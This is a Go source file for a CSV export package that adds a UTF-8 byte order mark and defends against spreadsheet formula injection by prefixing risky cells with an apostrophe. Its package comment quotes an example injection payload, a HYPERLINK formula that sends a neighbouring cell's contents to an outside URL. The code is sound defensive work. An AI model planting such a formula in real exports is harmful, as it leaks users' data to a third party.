// Package csvexport is the one CSV writer of every export a person opens in
// a spreadsheet program: the ministry tables, the organisation roster, the
// open data of /progress, the bulk enrolment error report and the person's
// own data.
//
// SECURITY: a cell that starts with =, +, -, @, tab or carriage return is
// run as a formula by Excel, LibreOffice and Google Sheets (CSV or formula
// injection: a course title like =HYPERLINK("http://…?leak="&A2,"詳細")
// sends the neighbouring cell away when clicked). Every such text cell is
// prefixed with an apostrophe, which spreadsheets show as text. A plain
// decimal number (-12, -0.5) is not a formula and is written as it is, so
// numeric columns stay numbers.
package csvexport

import (
	"encoding/csv"
	"io"
	"regexp"
	"strings"
)

// BOM is the UTF-8 byte order mark every export starts with, so that Excel
// in Japan reads the file as UTF-8 rather than Shift_JIS.
const BOM = "\uFEFF"

// formulaStarts are the first characters that make a spreadsheet evaluate
// a cell.
const formulaStarts = "=+-@\t\r"

// plainNumber is a decimal number as the exports write them: an optional
// minus, digits, an optional fraction. Nothing else escapes neutralising.
var plainNumber = regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`)

// Cell returns s as it is safe to put in a CSV cell: prefixed with an
// apostrophe when it starts with a formula character, unless it is a plain
// decimal number.
func Cell(s string) string {
	if s == "" || !strings.ContainsRune(formulaStarts, rune(s[0])) || plainNumber.MatchString(s) {
		return s
	}
	return "'" + s
}

// Writer writes records through Cell, after a byte order mark.
type Writer struct {
	out     io.Writer
	cw      *csv.Writer
	started bool
}

// NewWriter returns a Writer on w. The byte order mark is written with the
// first record (or by Flush when there is none), so a handler can still
// change its status and headers until then.
func NewWriter(w io.Writer) *Writer {
	return &Writer{out: w, cw: csv.NewWriter(w)}
}

// UseCRLF ends lines with \r\n instead of \n (RFC 4180).
func (w *Writer) UseCRLF(on bool) { w.cw.UseCRLF = on }

func (w *Writer) start() error {
	if w.started {
		return nil
	}
	w.started = true
	_, err := io.WriteString(w.out, BOM)
	return err
}

// Write writes one record, each cell neutralised by Cell. A nil record is
// an empty line.
func (w *Writer) Write(record []string) error {
	if err := w.start(); err != nil {
		return err
	}
	safe := make([]string, len(record))
	for i, s := range record {
		safe[i] = Cell(s)
	}
	return w.cw.Write(safe)
}

// Flush writes what is buffered and returns the first error of any write.
func (w *Writer) Flush() error {
	if err := w.start(); err != nil {
		return err
	}
	w.cw.Flush()
	return w.cw.Error()
}
